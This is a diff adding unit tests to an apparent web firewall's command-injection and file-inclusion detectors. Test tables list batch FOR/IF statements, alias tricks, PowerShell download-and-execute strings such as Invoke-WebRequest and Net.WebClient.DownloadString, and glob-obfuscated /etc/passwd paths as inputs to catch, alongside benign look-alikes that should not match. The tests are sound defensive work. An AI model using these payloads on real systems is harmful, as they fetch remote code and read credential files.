@@ -47,6 +47,33 @@ TEST(WafRceCases, CodeFromStringFragments) {
          "say \"hi\" & \"bye\""});
 }
 
+TEST(WafRceCases, BatchStatements) {
+  table(detect_cmdi,
+        {"& FOR %@ IN (a,b,c)DO cmd", "FOR /F \"delims=\" %G IN  ('ECHO foo')DO @Echo %G",
+         "For /R C:\\temp\\ %G IN (*.bak) do Echo del \"%G\"", "IF CMDEXTVERSION 1 GOTO start",
+         "IF 2 GEQ 15 echo \"bigger\"", "IF /I item1==item2 CMD", "if/i a==b foo", "IF X%1==X/? GOTO Help",
+         "if \"!VAR!\" == \"after\" @echo ok", "if (%1)==(LTRS) CD C:\\WORD", "IF (2 GEQ 15) echo big"},
+        {"if a == b then print end", "if x == 1: pass", "for item in (list) do something nice",
+         "If you want, come", "if (a == b) { x(); }", "for all in (the world) don't stop"});
+}
+
+TEST(WafRceCases, AliasesAndPowerShell) {
+  table(detect_cmdi,
+        {"alias eennvv=env&eennvv whoami", "alias -p jzfrx=id", "alias +m a=b", "Invoke-WebRequest http://h/x.ps1",
+         "Invoke-Expression -Command file.ps1", ";iwr http://h/x.ps1", ";iwmi -class Win32_process -name Create",
+         "powershell C:\\windows\\system32\\notepad.exe", "(New-Object Net.WebClient).DownloadString('http://h')"},
+        {"alias: Bob", "my alias is bob", "powershell tutorial for beginners", "invoke the expression",
+         "start process"});
+}
+
+TEST(WafLfiCases, SensitiveFilesNamedByGlobs) {
+  table(detect_lfi,
+        {"cat /[?]tc/pa[?]swd", "/etc/pas[s]wd", "/etc/[!q]asswd", "/etc/[m-z]asswd", "cat /[e//]tc/[p//]asswd",
+         "/bi[n]/bash", "/etc/pa*wd"},
+        {"/* See feature_test_macros(7) */", "a /* comment */ b", "/api/v[12]/users", "/images/*.png",
+         "/docs/[draft]/readme"});
+}
+
 TEST(WafLfiCases, HexSpelledAndRootedClimbs) {
   table(detect_lfi,
         {"/..0x2f{file}", "/0x2e0x2e/etc/passwd", "/0x2e0x2e0x2f0x2e0x2e0x2fetc/passwd", "////../../x", "/./../../.x",
